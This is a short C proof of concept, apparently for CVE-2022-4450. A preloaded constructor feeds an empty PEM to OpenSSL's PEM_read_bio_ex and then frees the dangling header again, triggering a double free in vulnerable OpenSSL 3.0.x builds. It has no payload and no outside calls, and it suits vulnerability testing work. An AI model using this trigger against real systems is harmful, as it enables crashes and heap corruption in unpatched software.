/* Shows CVE-2022-4450 in an executable that exports its OpenSSL (3.0.0 to 3.0.7): PEM_read_bio_ex
 * fails on an empty PEM and leaves *header freed, and its caller frees it again.  Preloaded into
 * the executable; does its work before main() and ends the process. */
#include <dlfcn.h>
#include <stdio.h>
#include <unistd.h>

struct bio_st;

static struct {
    struct bio_st *(*mem_buf)(const void *, int);
    int (*read)(struct bio_st *, char **, char **, unsigned char **, long *, unsigned);
    void (*free)(void *, const char *, int);
    const char *(*version)(int);
} openssl;

static int find(void)
{
    *(void **)&openssl.mem_buf = dlsym(RTLD_DEFAULT, "BIO_new_mem_buf");
    *(void **)&openssl.read = dlsym(RTLD_DEFAULT, "PEM_read_bio_ex");
    *(void **)&openssl.free = dlsym(RTLD_DEFAULT, "CRYPTO_free");
    *(void **)&openssl.version = dlsym(RTLD_DEFAULT, "OpenSSL_version");
    return openssl.mem_buf && openssl.read && openssl.free && openssl.version;
}

__attribute__((constructor)) static void call(void)
{
    static const char pem[] = "-----BEGIN A-----\n \n-----END A-----\n";
    char *name = NULL, *header = NULL;
    unsigned char *data = NULL;
    long length = 0;

    if (!find()) /* env, sh: not the program in question */
        return;
    int result = openssl.read(openssl.mem_buf(pem, -1), &name, &header, &data, &length, 0);
    printf("%s\nPEM_read_bio_ex returns %d and %s header\n", openssl.version(0), result,
           header != NULL ? "leaves a" : "no");
    if (result == 0 && header != NULL)
        openssl.free(header, "caller.c", 100);
    printf("the program goes on\n");
    fflush(stdout);
    _exit(0);
}
